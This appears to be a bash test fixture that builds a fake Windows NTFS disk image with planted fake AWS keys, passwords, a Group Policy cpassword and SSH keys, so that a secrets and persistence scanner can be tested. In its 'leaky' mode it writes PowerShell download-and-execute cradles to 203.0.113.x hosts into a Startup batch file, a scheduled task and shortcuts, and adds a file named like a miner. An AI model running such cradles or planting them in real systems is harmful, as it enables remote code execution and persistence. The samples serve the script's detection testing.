#!/usr/bin/env bash
# Build a Windows-like disk in DIR: an MBR table with one NTFS partition (type 7, as AWS Windows
# AMIs are laid out), made by mkntfs and populated through ntfs-3g on a loop device (ntfs-3g
# writes the records, indexes, run lists and streams, as Windows would). Every secret is fake
# and generated here, fresh for each run.
#
# Usage: windows-disk.sh DIR [clean]
#   DIR/disk.img       the disk
#   DIR/truth.txt      sha256sum of every regular file, as ntfs-3g shows them (paths from /)
#   DIR/streams.txt    sha256sum of every alternate data stream of a file or directory, as `path:stream`
#   DIR/secrets.env    the secrets planted (shell assignments), for the test to look for
#   DIR/hives.env      values of the registry hives as hivexget reads them (the hives' oracle)
# With `clean`, the same tree without any secret; with `compressed`, the leaky tree and a
# directory whose files ntfs-3g compresses (LZNT1).
set -euo pipefail
dir=$(realpath "$1"); mode=${2:-leaky}
cd "$dir"
rm -rf m disk.img; mkdir m
truncate -s 48M disk.img
printf 'label: dos\nstart=2048, type=7, bootable\n' | sfdisk -q disk.img
start=$((2048 * 512)); size=$(( $(stat -c %s disk.img) - start ))
L=$(losetup -f --show -o "$start" --sizelimit "$size" disk.img)
cleanup() { mountpoint -q m && umount m; losetup -d "$L"; }
trap cleanup EXIT
mkntfs -Q -q -F -s 512 -p 2048 -H 255 -S 63 -L Windows "$L"
mount -t ntfs-3g "$L" m

rnd() { (LC_ALL=C tr -dc "$1" </dev/urandom || true) | head -c "$2"; }
akid="AKIA$(rnd 'A-Z2-7' 16)"; secret="$(rnd 'A-Za-z0-9' 40)"
akid2="AKIA$(rnd 'A-Z2-7' 16)"; secret2="$(rnd 'A-Za-z0-9' 40)"
adminpw="Adm1n-$(rnd 'A-Za-z0-9' 14)"; sqlpw="Sq1-$(rnd 'A-Za-z0-9' 16)"
akid3="AKIA$(rnd 'A-Z2-7' 16)"; secret3="$(rnd 'A-Za-z0-9' 40)"
if [ "$mode" = clean ]; then adminpw='*SENSITIVE*DATA*DELETED*'; fi
cat > secrets.env <<S
AKID=$akid
SECRET=$secret
AKID2=$akid2
SECRET2=$secret2
ADMINPW=$adminpw
SQLPW=$sqlpw
AKID3=$akid3
SECRET3=$secret3
S

# The system: what every Windows volume holds, secret or not.
mkdir -p m/Windows/System32/config m/Windows/Panther m/Windows/Temp "m/Program Files/Amazon/EC2Launch" \
  m/ProgramData/ssh m/Users/Administrator/Documents m/Users/alice/Documents m/inetpub/wwwroot
head -c 300000 /dev/urandom > m/Windows/System32/ntoskrnl.exe
printf 'Windows Registry Editor Version 5.00\r\n' > m/Windows/System32/config/README.txt
# A directory of 600 entries (an $INDEX_ALLOCATION B+ tree), long and short names.
for i in $(seq 1 600); do printf 'driver %s\r\n' "$i" > "m/Windows/System32/driver-with-a-long-name-$i.sys"; done
# A fragmented file: two files written in turns, then one removed.
for i in $(seq 1 40); do head -c 8192 /dev/urandom >> m/Windows/Temp/frag.bin; head -c 8192 /dev/urandom >> m/Windows/Temp/filler.bin; sync; done
rm m/Windows/Temp/filler.bin
# A file larger than one read chunk, a sparse file, a hard link, a symlink, an empty file.
head -c 3000000 /dev/urandom > "m/Program Files/Amazon/EC2Launch/EC2Launch.exe"
truncate -s 5M m/Windows/Temp/sparse.dat; printf 'tail' | dd of=m/Windows/Temp/sparse.dat bs=1 seek=4000000 conv=notrunc status=none
ln "m/Program Files/Amazon/EC2Launch/EC2Launch.exe" m/Windows/Temp/EC2Launch-link.exe
ln -s ../Users m/Windows/users-link
: > m/Users/alice/Documents/empty.txt
printf 'shopping list\r\n' > m/Users/alice/Documents/notes.txt
printf 'hello\r\n' > 'm/Users/alice/Documents/Déjà vu — ünïcode.txt'

# The component store: a bulky directory every Windows volume has, which --quick never enters
# (no rule names it). 300 manifests in one component's directory; in the leaky image a copy of
# an IIS web.config there holds a connection string password: a full scan finds it, --quick
# does not read it (the files are not in any place a quick scan of a Windows volume walks).
sxs=m/Windows/WinSxS/amd64_microsoft-windows-iis-sharedlibraries_31bf3856ad364e35_10.0.20348.1_none_5a2c1d8f0e6b7a43
mkdir -p "$sxs"
for i in $(seq 1 300); do printf '<?xml version="1.0"?>\r\n<assembly manifestVersion="1.0"><file name="part-%s.dll"/></assembly>\r\n' "$i" > "$sxs/part-$i.manifest"; done
if [ "$mode" != clean ]; then
  sxspw="Sx-$(rnd 'A-Za-z0-9' 16)"
  printf 'WINSXSPW=%s\n' "$sxspw" >> secrets.env
  printf '<?xml version="1.0"?>\r\n<configuration>\r\n  <connectionStrings>\r\n    <add name="Sxs" connectionString="Server=sql-stage.corp.local;Database=stage;User ID=stage;Password=%s;" providerName="System.Data.SqlClient" />\r\n  </connectionStrings>\r\n</configuration>\r\n' "$sxspw" > "$sxs/web.config"
fi

# The registry hives, written by hivexsh (hives.sh), at their Windows places.
rm -rf hives; mkdir hives
bash "$(dirname "$(realpath "$0")")/hives.sh" hives "$([ "$mode" = clean ] && echo clean || echo leaky)"
cp hives/SAM hives/SECURITY hives/SOFTWARE hives/SYSTEM m/Windows/System32/config/
cp hives/NTUSER-Administrator.DAT m/Users/Administrator/NTUSER.DAT
cp hives/NTUSER-alice.DAT m/Users/alice/NTUSER.DAT
[ -f hives/secrets.env ] && cat hives/secrets.env >> secrets.env
cp hives/hives.env .

cat > m/Windows/Panther/unattend.xml <<X
<?xml version="1.0" encoding="utf-8"?>
<unattend xmlns="urn:schemas-microsoft-com:unattend">
  <settings pass="oobeSystem">
    <component name="Microsoft-Windows-Shell-Setup" processorArchitecture="amd64">
      <UserAccounts>
        <AdministratorPassword>
          <Value>$adminpw</Value>
          <PlainText>true</PlainText>
        </AdministratorPassword>
      </UserAccounts>
    </component>
  </settings>
</unattend>
X

# What the EC2 launch agents and Group Policy leave: a static Administrator password in
# EC2Launch v2's agent-config.yml and EC2Launch v1's LaunchConfig.json, a Group Policy
# Preferences password cached on the machine, EC2Config's answer file. The clean image has
# each file as a generalized image does (random password, no Groups.xml).
ec2pw="Ec2-$(rnd 'A-Za-z0-9' 14)"; ec2v1pw="V1-$(rnd 'A-Za-z0-9' 14)"; sysprep2008pw="Sp-$(rnd 'A-Za-z0-9' 14)"
# A real cpassword: a fresh password, UTF-16LE, AES-256-CBC with the key Microsoft published
# ([MS-GPPREF]) and a zero IV, base64 without its padding, as Group Policy writes it.
gpppw="Gp-$(rnd 'A-Za-z0-9' 14)"
cpassword=$(printf '%s' "$gpppw" | iconv -f UTF-8 -t UTF-16LE \
  | openssl enc -aes-256-cbc -K 4e9906e8fcb66cc9faf49310620ffee8f496e806cc057990209b09a433b66c1b -iv 00000000000000000000000000000000 \
  | base64 -w0 | tr -d '=')
pwtype=static; v1type=Specify; v1pw=$ec2v1pw
if [ "$mode" = clean ]; then pwtype=random; v1type=Random; v1pw=; sysprep2008pw='*SENSITIVE*DATA*DELETED*'; fi
printf 'EC2LAUNCH=%s\nEC2LAUNCH_V1=%s\nCPASSWORD=%s\nGPPPW=%s\nSYSPREP2008=%s\n' "$ec2pw" "$ec2v1pw" "$cpassword" "$gpppw" "$sysprep2008pw" >> secrets.env
mkdir -p m/ProgramData/Amazon/EC2Launch/config m/ProgramData/Amazon/EC2Launch/log m/ProgramData/Amazon/EC2-Windows/Launch/Config \
  "m/Program Files/Amazon/Ec2ConfigService/Settings"
{ printf 'version: 1.0\nconfig:\n- stage: boot\n  tasks:\n  - task: extendRootPartition\n- stage: preReady\n  tasks:\n'
  printf '  - task: activateWindows\n    inputs:\n      activation:\n        type: amazon\n  - task: setAdminAccount\n'
  printf '    inputs:\n      name: Administrator\n      password:\n        type: %s\n' "$pwtype"
  [ "$pwtype" = static ] && printf '        data: %s\n' "$ec2pw"
  printf '  - task: setWallpaper\n- stage: postReady\n  tasks:\n  - task: startSsm\n'; } | sed 's/$/\r/' > m/ProgramData/Amazon/EC2Launch/config/agent-config.yml
printf '2026-11-30 10:02:11 Info: Stage preReady: task setAdminAccount done\r\n' > m/ProgramData/Amazon/EC2Launch/log/agent.log
cat > m/ProgramData/Amazon/EC2-Windows/Launch/Config/LaunchConfig.json <<X
{
    "setComputerName":  false,
    "setMonitorAlwaysOn":  false,
    "setWallpaper":  true,
    "addDnsSuffixList":  true,
    "extendBootVolumeSize":  true,
    "handleUserData":  true,
    "adminPasswordType":  "$v1type",
    "adminPassword":  "$v1pw"
}
X
cat > "m/Program Files/Amazon/Ec2ConfigService/sysprep2008.xml" <<X
<?xml version="1.0" encoding="utf-8"?>
<unattend xmlns="urn:schemas-microsoft-com:unattend">
  <settings pass="oobeSystem">
    <component name="Microsoft-Windows-Shell-Setup" processorArchitecture="amd64">
      <UserAccounts>
        <AdministratorPassword>
          <Value>$sysprep2008pw</Value>
          <PlainText>true</PlainText>
        </AdministratorPassword>
      </UserAccounts>
    </component>
  </settings>
</unattend>
X
printf '<?xml version="1.0"?>\r\n<Ec2ConfigurationSettings><Plugins><Plugin><Name>Ec2SetPassword</Name><State>Enabled</State></Plugin></Plugins></Ec2ConfigurationSettings>\r\n' \
  > "m/Program Files/Amazon/Ec2ConfigService/Settings/config.xml"
if [ "$mode" != clean ]; then
  g="m/ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/Groups"
  mkdir -p "$g"
  printf '<?xml version="1.0" encoding="utf-8"?>\r\n<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}"><User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="Administrator (built-in)" image="2" changed="2026-11-03 10:12:44" uid="{7A0E2A8D-33C1-4F0B-9A57-61C1C2E0D1B4}"><Properties action="U" newName="" fullName="" description="" cpassword="%s" changeLogon="0" noChange="0" neverExpires="1" acctDisabled="0" userName="Administrator (built-in)"/></User>\r\n</Groups>\r\n' "$cpassword" > "$g/Groups.xml"
fi

if [ "$mode" != clean ]; then
  h=m/Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine
  mkdir -p "$h"
  printf 'Get-Service\r\n$env:AWS_ACCESS_KEY_ID="%s"\r\n$env:AWS_SECRET_ACCESS_KEY="%s"\r\naws s3 ls\r\n' "$akid" "$secret" > "$h/ConsoleHost_history.txt"
  mkdir -p m/Users/alice/.aws m/Users/alice/.ssh
  printf '[default]\r\naws_access_key_id = %s\r\naws_secret_access_key = %s\r\n' "$akid2" "$secret2" > m/Users/alice/.aws/credentials
  ssh-keygen -q -t ed25519 -N '' -C alice@win -f m/Users/alice/.ssh/id_ed25519
  ssh-keygen -q -t ed25519 -N '' -C '' -f m/ProgramData/ssh/ssh_host_ed25519_key
  cat > m/inetpub/wwwroot/web.config <<X
<?xml version="1.0"?>
<configuration>
  <connectionStrings>
    <add name="Shop" connectionString="Server=sql-prod.corp.local;Database=shop;User ID=shopapp;Password=$sqlpw;" providerName="System.Data.SqlClient" />
  </connectionStrings>
</configuration>
X
  # An alternate data stream (ntfs-3g's default interface shows streams as user.* attributes).
  setfattr -n user.token -v "$(printf 'aws_access_key_id=%s\naws_secret_access_key=%s\n' "$akid3" "$secret3")" \
    m/Users/alice/Documents/notes.txt
fi
if [ "$mode" = compressed ]; then
  # A directory with the compressed attribute: ntfs-3g writes the files in it LZNT1-compressed.
  mkdir -p m/Windows/WinSxS
  setfattr -h -v 0x00000800 -n system.ntfs_attrib_be m/Windows/WinSxS
  # A text file of several compression units with an AWS key pair in its second, random
  # (incompressible: stored) data, and a sparse file with text past a hole.
  akid4="AKIA$(rnd 'A-Z2-7' 16)"; secret4="$(rnd 'A-Za-z0-9' 40)"
  printf 'AKID4=%s\nSECRET4=%s\n' "$akid4" "$secret4" >> secrets.env
  { for i in $(seq 1 2000); do printf 'manifest line %s of a compressible file\r\n' "$i"; done
    printf 'aws_access_key_id = %s\r\naws_secret_access_key = %s\r\n' "$akid4" "$secret4"
    for i in $(seq 2001 4000); do printf 'manifest line %s of a compressible file\r\n' "$i"; done; } > m/Windows/WinSxS/packed.txt
  head -c 300000 /dev/urandom > m/Windows/WinSxS/random.bin
  truncate -s 1M m/Windows/WinSxS/holes.dat
  printf 'text after a hole\r\n' | dd of=m/Windows/WinSxS/holes.dat bs=1 seek=700000 conv=notrunc status=none
  # The files really are compressed (FILE_ATTRIBUTE_COMPRESSED, 0x800).
  for f in packed.txt random.bin holes.dat; do
    getfattr -h -e hex -n system.ntfs_attrib_be "m/Windows/WinSxS/$f" | grep '=0x0*8..$' >/dev/null || { echo "$f is not compressed" >&2; exit 1; }
  done
fi
# Persistence (the tamper checks). Every image: what a stock Windows Server holds — the
# all-users Startup folder with its desktop.ini, a built-in scheduled task (XML in UTF-16, as
# Task Scheduler writes it). The leaky image adds a Startup script that fetches and runs code,
# a task that stores its account's password, a task that runs a downloaded script, a PE file
# left in Windows\Temp and a miner under ProgramData.
task() { # FILE LOGONTYPE COMMAND ARGUMENTS
  mkdir -p "$(dirname "$1")"
  { printf '\xff\xfe'; printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <Principals>\r\n    <Principal id="Author">\r\n      <UserId>%s</UserId>\r\n      <LogonType>%s</LogonType>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>%s</Command>\r\n      <Arguments>%s</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>\r\n' \
      "$5" "$2" "$3" "$4" | iconv -f UTF-8 -t UTF-16LE; } > "$1"
}
startup="m/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
mkdir -p "$startup"
printf '[.ShellClassInfo]\r\nLocalizedResourceName=@%%SystemRoot%%\\system32\\shell32.dll,-21787\r\n' > "$startup/desktop.ini"
task m/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag S4U '%windir%\system32\defrag.exe' '-c -h -o -$' 'S-1-5-18'
if [ "$mode" != clean ]; then
  printf '@echo off\r\npowershell -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString(\x27http://203.0.113.5/a.ps1\x27)"\r\n' > "$startup/update.bat"
  task m/Windows/System32/Tasks/NightlyBuild Password 'C:\Tools\build.exe' '--nightly' 'EC2AMAZ-BUILD\deploy'
  task m/Windows/System32/Tasks/Updater InteractiveToken powershell.exe '-nop -c &quot;iwr http://203.0.113.5/u.ps1 | iex&quot;' 'Administrator'
  # A PE image: the DOS header with e_lfanew, the PE signature and a COFF header (amd64).
  python3 -c "
import struct,sys,os
b=bytearray(0x400); b[0:2]=b'MZ'; struct.pack_into('<I',b,0x3C,0x80); b[0x80:0x84]=b'PE\0\0'
struct.pack_into('<HH',b,0x84,0x8664,1); b[0x200:]=os.urandom(0x200)
sys.stdout.buffer.write(bytes(b))" > m/Windows/Temp/setup.exe
  mkdir -p m/ProgramData/svc
  head -c 4096 /dev/urandom > m/ProgramData/svc/xmrig.exe
fi
# Shortcuts in the Startup folders (mklnk.py writes them per MS-SHLLINK, each with its target's
# shell items; lnkinfo, from liblnk-utils, reads back what each runs into lnk.env, the oracle:
# LNK_x_TARGET its LinkInfo's local path, LNK_x_SHELL the path its shell items spell (the volume
# name and the file entries' long names), LNK_x_ARGS its arguments). Every image: a vendor
# tool's shortcut (the inventory, info) and one whose target is only in its shell items (as
# Explorer writes them; info). The leaky image adds a shortcut that runs a PowerShell download
# cradle for every user, one in alice's own Startup folder whose program is in her profile, and
# one with only shell items whose program is in C:\Users\Public.
here=$(dirname "$(realpath "$0")")
lnk() { # [--shell-items-only] FILE TARGET ARGUMENTS [ENV_TARGET]
  local file=$1; [ "$1" = --shell-items-only ] && file=$2
  mkdir -p "$(dirname "$file")"; python3 "$here/mklnk.py" "$@"
  local info name; info=$(lnkinfo "$file"); name=$(basename "$file" .lnk)
  printf 'LNK_%s_TARGET=%s\nLNK_%s_ARGS=%s\nLNK_%s_SHELL=%s\n' "$name" "$(sed -n 's/^\tLocal path\t*: //p' <<<"$info")" \
    "$name" "$(sed -n 's/^\tCommand line arguments\t*: //p' <<<"$info")" \
    "$name" "$(awk -F '\t+: ' '/^\t\tVolume name\t/ { p = $2 } /^\t\tLong name\t/ { p = p (p ~ /\\$/ ? "" : "\\") $2 } END { print p }' <<<"$info")" >> lnk.env
}
: > lnk.env
lnk "$startup/BGInfo.lnk" 'C:\Program Files\BGInfo\Bginfo64.exe' '/timer:0 /silent /nolicprompt' '%ProgramFiles%\BGInfo\Bginfo64.exe'
lnk --shell-items-only "$startup/EC2Launch.lnk" 'C:\Program Files\Amazon\EC2Launch\EC2Launch.exe' ''
if [ "$mode" != clean ]; then
  lnk --shell-items-only "$startup/Updater.lnk" 'C:\Users\Public\Ünïcode Tools\updater.exe' '-u http://203.0.113.7/u.exe --quiet'
  lnk "$startup/Sync.lnk" 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' \
    "-NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.6/s.ps1')\""
  lnk 'm/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/helper.lnk' \
    'C:\Users\alice\AppData\Local\Helper\helper.exe' '--tray'
fi
# The WMI repository (wmi-repository.py lays out OBJECTS.DATA as Windows keeps it): the stock
# Service Control Manager subscription in every image; in the leaky one, a command-line and a
# script consumer bound to filters.
mkdir -p m/Windows/System32/wbem/Repository
python3 "$here/wmi-repository.py" m/Windows/System32/wbem/Repository/OBJECTS.DATA "$([ "$mode" = clean ] && echo clean || echo leaky)"
# A harmless stream on a system file, in every image.
setfattr -n user.Zone.Identifier -v $'[ZoneTransfer]\r\nZoneId=3\r\n' "m/Program Files/Amazon/EC2Launch/EC2Launch.exe"
# A stream on a directory: listed with the directory's own listing.
setfattr -n user.owner -v 'platform team' m/Users/alice/Documents

(cd m && find . -type f -print0 | sort -z | xargs -0 sha256sum | sed 's#  \./#  /#') > truth.txt
(cd m && find . -mindepth 1 \( -type f -o -type d \) -print0 | sort -z | while IFS= read -r -d '' f; do
   getfattr --absolute-names -m '^user\.' "$f" 2>/dev/null | sed -n 's/^user\.//p' | while IFS= read -r name; do
     printf '%s  %s\n' "$(getfattr --absolute-names --only-values -n "user.$name" "$f" | sha256sum | cut -d' ' -f1)" "${f#.}:$name"
   done
 done) > streams.txt
umount m
